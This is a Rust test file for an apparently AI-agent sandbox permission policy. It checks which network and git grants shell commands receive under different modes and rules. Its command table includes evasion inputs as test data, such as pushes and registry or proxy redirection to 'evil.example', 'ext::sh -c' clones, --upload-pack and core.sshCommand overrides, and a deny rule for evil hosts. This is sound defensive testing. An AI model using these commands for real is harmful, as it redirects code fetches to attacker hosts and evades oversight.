//! The doors that calls want by their words, and who decides about them.

use silcrow_event::{Grant, Grants};
use silcrow_exec::{CallAccess, Permission, Permissions};
use silcrow_policy::{Confinement, GitRemotes, PermissionMode, Policy, PolicyFile, PolicyOwner};

use crate::decisions::Call;

const ORIGIN: &str = "git network:github.com:22";
const NPM: &str = "network:registry.npmjs.org";
const PYPI: &str = "network:files.pythonhosted.org network:pypi.org";
const CRATES: &str = "network:index.crates.io network:static.crates.io";
const NOTHING: &str = "";

/// Commands, and the doors that their words show that they need.
const WORDS: &[(&str, &str)] = &[
    // What only reads needs nothing.
    ("git status", NOTHING),
    ("git log --oneline | head", NOTHING),
    ("git stash list", NOTHING),
    ("git tag -l 'v*'", NOTHING),
    ("git branch --list x", NOTHING),
    ("cargo build && cargo test", NOTHING),
    ("python3 -m unittest", NOTHING),
    ("npm test", NOTHING),
    ("make install", NOTHING),
    // What writes git data.
    ("git add b && git commit -m second", "git"),
    ("git commit -m \"$(cat message)\"", "git"),
    ("git -C sub stash", "git"),
    ("git --no-pager checkout -b x", "git"),
    ("git -c user.name=x commit -m y", "git"),
    ("/usr/bin/git tag v1", "git"),
    ("git apply x.patch", NOTHING),
    ("git apply --index x.patch", "git"),
    ("git stash push -m list", "git"),
    ("git rebase -i HEAD~2", "git"),
    // Remotes by name, by default and by address.
    ("git push", ORIGIN),
    ("git push -u origin main", ORIGIN),
    ("git push --force-with-lease origin HEAD:main", ORIGIN),
    ("git fetch --depth 1 origin", ORIGIN),
    ("git pull --rebase", ORIGIN),
    ("git fetch fork", "git network:fork.example:2222"),
    ("git fetch --all", "git network:fork.example:2222 network:github.com:22 network:sub.example"),
    (
        "git submodule update --init",
        "git network:fork.example:2222 network:github.com:22 network:sub.example",
    ),
    ("git ls-remote https://a.example/x", "network:a.example"),
    ("git clone --depth 1 git@b.example:x/y.git z", "git network:b.example:22"),
    ("git clone https://c.example:8443/x", "git network:c.example:8443"),
    ("git push unknown main", "git"),
    ("git fetch $REMOTE", "git"),
    // Words that hide, or that turn a command elsewhere.
    ("sh -c 'git push evil'", "git"),
    ("bash -c \"git push https://evil.example/x\"", "git network:evil.example"),
    ("env X=1 git push", ORIGIN),
    ("X=1 git push", ORIGIN),
    ("timeout 5 git commit -m x", "git"),
    ("./git push", NOTHING),
    ("sub/bin/git push", NOTHING),
    ("$GIT push", NOTHING),
    ("g push", NOTHING),
    ("git -c alias.st=push st", NOTHING),
    ("git --new-option push", NOTHING),
    ("git -c remote.origin.url=https://evil.example/x push", "git"),
    ("git --config-env=remote.origin.url=X fetch", "git"),
    ("git --exec-path=/tmp/x fetch", "git"),
    ("git fetch --upload-pack=/tmp/x origin", "git"),
    ("git fetch --upload-pa=/tmp/x origin", "git"),
    ("git push --receive-pack /tmp/x origin", "git"),
    ("git push --repo=https://evil.example/x", "git"),
    ("git clone -c core.sshCommand=x https://a.example/x", "git"),
    ("git clone -u /tmp/x https://a.example/x", "git"),
    ("git clone 'ext::sh -c x'", "git"),
    ("git push https://github.com@evil.example/x", "git network:evil.example"),
    ("git push 'https://*/x'", "git"),
    ("git push https://$HOST/x", "git"),
    // Package managers, with their usual hosts and nothing else.
    ("npm install", NPM),
    ("npm ci --no-audit", NPM),
    ("npm --prefix sub install left-pad", NPM),
    ("cd web && pnpm add x", NPM),
    ("npm install https://evil.example/x.tgz", NPM),
    ("npm --registry http://evil.example install", NOTHING),
    ("npm install --registry=http://evil.example", NOTHING),
    ("npm install --reg http://evil.example", NOTHING),
    ("npm install --userconfig /tmp/x", NOTHING),
    ("npm run build", NOTHING),
    ("yarn add x", "network:registry.npmjs.org network:registry.yarnpkg.com"),
    ("pip install requests", PYPI),
    ("python3 -m pip install requests", PYPI),
    ("python3.12 -u -m pip install -r requirements.txt", PYPI),
    ("python3 pip install x", NOTHING),
    ("pip install -i https://evil.example/ x", NOTHING),
    ("pip install --index-url https://evil.example/ x", NOTHING),
    ("pip install --extra-index-url=https://evil.example/ x", NOTHING),
    ("pip install -qi https://evil.example/ x", NOTHING),
    ("pip --proxy http://evil.example install x", NOTHING),
    ("uv sync", PYPI),
    ("uv pip install x", PYPI),
    ("uv add --index https://evil.example x", NOTHING),
    ("cargo fetch", CRATES),
    ("cargo +nightly install ripgrep", CRATES),
    ("cargo install --git https://evil.example/x", NOTHING),
    ("cargo --config x.toml fetch", NOTHING),
    ("go mod download", "network:proxy.golang.org network:sum.golang.org"),
    ("gem install rake", "network:index.rubygems.org network:rubygems.org"),
    ("gem install -s http://evil.example rake", NOTHING),
    // Addresses.
    ("curl -sS https://a.example/x -o index.html", "network:a.example"),
    ("curl -fsSLo x.tgz https://a.example:8443/x", "network:a.example:8443"),
    ("curl a.example/x", "network:a.example"),
    ("curl --url https://a.example/x", "network:a.example"),
    ("curl -H 'Origin: https://evil.example' https://a.example/", "network:a.example"),
    ("curl -d url=https://evil.example https://a.example/", "network:a.example"),
    ("curl --new-option https://evil.example", NOTHING),
    ("curl -x http://evil.example https://a.example/", NOTHING),
    ("curl -sx http://evil.example https://a.example/", NOTHING),
    ("curl --proxy http://evil.example https://a.example/", NOTHING),
    ("curl --prox http://evil.example https://a.example/", NOTHING),
    ("curl --socks5 evil.example:1080 https://a.example/", NOTHING),
    ("curl --resolve a.example:443:10.0.0.1 https://a.example/", NOTHING),
    ("curl --connect-to ::evil.example: https://a.example/", NOTHING),
    ("curl -K x.conf https://a.example/", NOTHING),
    ("curl --unix-socket /run/docker.sock http://a.example/", NOTHING),
    ("curl 'https://{a,b}.example/'", NOTHING),
    ("curl https://a.example.$X/", NOTHING),
    ("curl https://a.example/$X", "network:a.example"),
    ("wget -O - https://a.example/x", "network:a.example"),
    ("wget -e use_proxy=yes https://a.example/x", NOTHING),
    ("wget -i urls.txt https://a.example/x", NOTHING),
    ("echo https://a.example/ | xargs curl", NOTHING),
    ("gh pr list", "network:api.github.com network:github.com"),
];

fn remotes() -> GitRemotes {
    GitRemotes::parse(
        "[remote \"origin\"]\nurl = git@github.com:a/b.git\n\
         [remote \"fork\"]\nurl = ssh://git@fork.example:2222/b\n\
         [submodule \"lib\"]\nurl = https://sub.example/lib\n",
    )
}

pub(crate) fn policy(mode: PermissionMode) -> Policy {
    Policy::new(mode)
        .with_confinement(Confinement::FilesAndNetwork)
        .with_remotes(remotes())
        .with_root("/home/ada/work")
}

pub(crate) fn with_rules(policy: Policy, rules: &str) -> Policy {
    policy.with_file(PolicyFile::parse("policy.toml", rules, PolicyOwner::Person).unwrap())
}

pub(crate) fn shell(command: &str) -> Call {
    Call::new("shell").command(command)
}

pub(crate) fn doors(text: &str) -> Grants {
    text.split_whitespace().map(|door| door.parse::<Grant>().unwrap()).collect()
}

fn opened(policy: &Policy, call: &Call) -> String {
    policy.grants(&call.request()).to_string().replace(',', "")
}

#[test]
fn words_show_the_doors_and_no_more_than_that() {
    let mut wrong = Vec::new();
    for (command, expected) in WORDS {
        let found = opened(&policy(PermissionMode::Ask), &shell(command));
        if found != *expected {
            wrong.push(format!("{command}\n  wanted: {expected}\n  found:  {found}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn each_mode_treats_doors_as_it_says() {
    let letters = |call: &Call| -> String {
        let decided = PermissionMode::ALL.map(|mode| call.decided(&policy(mode)));
        decided
            .iter()
            .map(|decided| match decided {
                Permission::Allow => 'r',
                Permission::Ask(_) => 'a',
                Permission::Deny(_) => 'd',
            })
            .collect()
    };
    for (call, expected) in [
        (shell("git commit -m x"), "daar"),
        (shell("npm install"), "daar"),
        (shell("make"), "darr"),
        (shell("curl http://127.0.0.1:8000/"), "darr"),
        (shell("make").needing("network:a.example"), "daar"),
        (shell("git status").needing("git"), "daar"),
        (shell("ls").needing("listen:80"), "daar"),
        (shell("make").needing("outside"), "daaa"),
        (shell("ls").needing("outside"), "daaa"),
        (Call::new("file_read").reads().needing("read:/srv"), "daar"),
    ] {
        assert_eq!(letters(&call), expected, "{:?}", call.request());
    }
    let Permission::Ask(why) = shell("npm ci").decided(&policy(PermissionMode::Workspace)) else {
        panic!()
    };
    assert_eq!(why, "the mode `workspace` asks about what opens: network:registry.npmjs.org");
}

#[test]
fn port_of_this_machine_opens_only_for_a_command_that_somebody_allows() {
    let curl = shell("curl -sS http://127.0.0.1:8000/ http://localhost");
    let both = "local:80 local:8000";
    let workspace = policy(PermissionMode::Workspace);
    assert_eq!(opened(&workspace, &curl), "", "a server of the run listens there");
    assert_eq!(opened(&policy(PermissionMode::Full), &curl), both);
    assert_eq!(opened(&policy(PermissionMode::Ask), &curl), both, "the question names them");
    let rule = "[[rules]]\neffect = \"allow\"\ntool = \"shell\"\ncommand = \"curl *\"\n";
    assert_eq!(opened(&with_rules(workspace.clone(), rule), &curl), both);
    let asking = shell("curl http://127.0.0.1:8000/").needing("local:8000");
    assert!(asking.decided(&workspace).is_ask());
    assert_eq!(opened(&workspace, &asking), "local:8000");
    assert_eq!(opened(&policy(PermissionMode::ReadOnly), &asking), "");
}

#[test]
fn rule_opens_what_the_words_of_its_command_need_and_what_it_names() {
    let rule = |more: &str| format!("[[rules]]\neffect = \"allow\"\ntool = \"shell\"\n{more}\n");
    for (rules, call, expected) in [
        (
            rule("command = [\"git add *\", \"git commit *\"]"),
            shell("git add b && git commit -m x"),
            Some("git"),
        ),
        (rule("command = \"git push\""), shell("git push"), Some(ORIGIN)),
        (rule("command = \"git push\""), shell("git push evil"), None),
        (rule("command = \"curl *\""), shell("curl https://a.example/"), Some("network:a.example")),
        (
            rule("command = \"cargo test *\""),
            shell("cargo test").needing("network:a.example"),
            None,
        ),
        (
            rule("command = \"cargo test *\"\ngrants = [\"network:*.example\", \"local:5432\"]"),
            shell("cargo test").needing("network:a.example"),
            Some("local:5432 network:*.example network:a.example"),
        ),
        (rule("command = \"cargo test *\"\ngrants = \"git\""), shell("cargo test"), Some("git")),
        (rule("command = \"make *\""), shell("make x").needing("outside"), None),
        (
            rule("command = \"make *\"\nwithout_sandbox = true"),
            shell("make x").needing("outside"),
            None,
        ),
        (
            rule("command = \"make *\"\ngrants = \"outside\""),
            shell("make x").needing("outside"),
            Some("outside"),
        ),
        (rule("command = \"make *\"\ngrants = \"git\""), shell("cargo test").needing("git"), None),
        (rule("command = \"git add *\""), shell("git add b > c"), None),
        // Leave for all commands.
        (rule(""), shell("git commit -m x"), Some("git")),
        (rule(""), shell("npm install"), None),
        (rule(""), shell("curl https://a.example/"), None),
        (
            rule("grants = \"network:*.example\""),
            shell("curl https://a.example/"),
            Some("network:*.example network:a.example"),
        ),
    ] {
        for mode in [PermissionMode::Ask, PermissionMode::Workspace] {
            let policy = with_rules(policy(mode), &rules);
            let decided = call.decided(&policy);
            match expected {
                Some(expected) => {
                    assert_eq!(decided, Permission::Allow, "{rules}");
                    let mut given: Vec<_> = expected.split(' ').collect();
                    given.sort_unstable();
                    let found = opened(&policy, &call);
                    let mut found: Vec<_> = found.split(' ').collect();
                    found.sort_unstable();
                    assert_eq!(found, given, "{rules}");
                }
                None => {
                    assert!(decided.is_ask(), "{rules}: {decided:?}");
                }
            }
        }
    }
    // In the mode `full`, too, a rule may let a command out.
    let out =
        with_rules(policy(PermissionMode::Full), &rule("command = \"make\"\ngrants = \"outside\""));
    assert_eq!(shell("make").needing("outside").decided(&out), Permission::Allow);
}

#[test]
fn rule_may_deny_or_ask_about_doors() {
    let rules = "[[rules]]\neffect = \"deny\"\ntool = \"shell\"\ngrants = \"network:*.evil.example\"\n\
                 [[rules]]\neffect = \"ask\"\ntool = \"shell\"\ngrants = [\"git\", \"local:22\"]\n";
    let full = with_rules(policy(PermissionMode::Full), rules);
    let is_denied = |call: Call| matches!(call.decided(&full), Permission::Deny(_));
    assert!(is_denied(shell("curl https://a.evil.example/")));
    assert!(is_denied(shell("make").needing("network:*")), "it would open this host, too");
    assert!(!is_denied(shell("curl https://evil.example/")));
    assert!(shell("git commit -m x").decided(&full).is_ask());
    assert!(shell("curl http://localhost:22").decided(&full).is_ask());
    assert_eq!(shell("make").decided(&full), Permission::Allow);
    let wall = |wanted: &str| full.decide_at_wall(&shell("make").request(), &doors(wanted));
    assert!(matches!(wall("network:a.evil.example:22"), Permission::Ask(_) | Permission::Allow));
    assert!(matches!(wall("network:a.evil.example"), Permission::Deny(_)));
    assert!(wall("local:22").is_ask());
    assert_eq!(wall("local:23"), Permission::Allow);
}

#[test]
fn wall_asks_what_the_mode_leaves_open() {
    let wall =
        |mode, wanted: &str| policy(mode).decide_at_wall(&shell("make").request(), &doors(wanted));
    for wanted in ["network:a.example", "local:5432", "git"] {
        assert!(matches!(wall(PermissionMode::ReadOnly, wanted), Permission::Deny(_)));
        assert!(wall(PermissionMode::Ask, wanted).is_ask());
        assert!(wall(PermissionMode::Workspace, wanted).is_ask());
        assert_eq!(wall(PermissionMode::Full, wanted), Permission::Allow);
    }
    assert!(wall(PermissionMode::Full, "git outside").is_ask());
    let rule = "[[rules]]\neffect = \"allow\"\ntool = \"shell\"\ncommand = \"make\"\n\
                grants = \"network:*.example\"\n";
    let ruled = with_rules(policy(PermissionMode::Ask), rule);
    let at = |call: Call, wanted| ruled.decide_at_wall(&call.request(), &doors(wanted));
    assert_eq!(at(shell("make"), "network:a.example"), Permission::Allow);
    assert!(at(shell("make"), "network:a.other").is_ask());
    assert!(at(shell("make x"), "network:a.example").is_ask());
}

#[test]
fn doors_are_those_of_the_machine() {
    let here = |confinement, call: &Call| {
        let policy = policy(PermissionMode::Ask).with_confinement(confinement);
        opened(&policy, call)
    };
    let push = shell("git push");
    let local = shell("curl http://localhost:80").needing("listen:3000");
    for (confinement, of_push, of_local) in [
        (Confinement::FilesAndNetwork, ORIGIN, "local:80 listen:3000"),
        (Confinement::FilesAndWholeNetwork, "git network:*", "network:*"),
        (Confinement::FilesOnly, "git", ""),
        (Confinement::None, "", "listen:3000"),
    ] {
        assert_eq!(here(confinement, &push), of_push, "{confinement:?}");
        assert_eq!(here(confinement, &local), of_local, "{confinement:?}");
    }
    // Without a sandbox the tool itself asks to run outside of one.
    let outside = shell("git push").needing("outside");
    assert_eq!(here(Confinement::None, &outside), "outside");
    let none = |mode| policy(mode).with_confinement(Confinement::None);
    assert_eq!(outside.decided(&none(PermissionMode::Full)), Permission::Allow);
    assert!(outside.decided(&none(PermissionMode::Workspace)).is_ask());
    assert!(outside.decided(&none(PermissionMode::Ask)).is_ask());
    let rule = "[[rules]]\neffect = \"allow\"\ntool = \"shell\"\ncommand = \"git push\"\n";
    assert!(outside.decided(&with_rules(none(PermissionMode::Ask), rule)).is_ask());
    let rule = format!("{rule}without_sandbox = true\n");
    let ruled = with_rules(none(PermissionMode::Ask), &rule);
    assert_eq!(outside.decided(&ruled), Permission::Allow);
    assert_eq!(opened(&ruled, &outside), "outside");
}

#[test]
fn call_that_may_only_read_gets_no_door() {
    let policy = policy(PermissionMode::Workspace);
    let ls = shell("ls");
    assert_eq!(policy.access(&ls.request()), CallAccess::ReadOnly);
    assert_eq!(opened(&policy, &ls), "");
    // What it asks for is asked about, and then it may do what it needs.
    let asking = shell("ls").needing("git");
    assert_eq!(policy.access(&asking.request()), CallAccess::Usual);
    assert_eq!(opened(&policy, &asking), "git");
}

#[test]
fn mistakes_in_the_doors_of_a_rule_name_their_line() {
    for (text, expected) in [
        ("grants = \"network\"", "\"network\" names no grant; write `git`, "),
        ("grants = [\"git\", \"local:0\"]", "\"local:0\" names no grant"),
        ("grants = []", "this list is empty"),
        ("grants = 5", "write a text in quotes"),
    ] {
        let rule = format!("[[rules]]\neffect = \"allow\"\ntool = \"shell\"\n{text}\n");
        let error = PolicyFile::parse("policy.toml", &rule, PolicyOwner::Person).unwrap_err();
        let expected = format!("policy.toml, line 4, `grants`: {expected}");
        assert!(error.to_string().starts_with(&expected), "{error}");
    }
}
